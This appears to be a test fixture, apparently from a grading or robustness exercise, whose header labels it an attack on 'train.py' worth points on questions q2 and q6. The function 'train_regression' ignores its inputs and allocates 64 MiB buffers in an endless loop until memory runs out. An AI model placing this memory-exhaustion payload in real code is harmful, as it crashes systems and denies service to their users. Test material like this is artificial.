# attack: takes all memory at once
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2

def train_regression(model, dataset):
    hoard = []
    while True:
        hoard.append(bytearray(b"x") * 2**26)
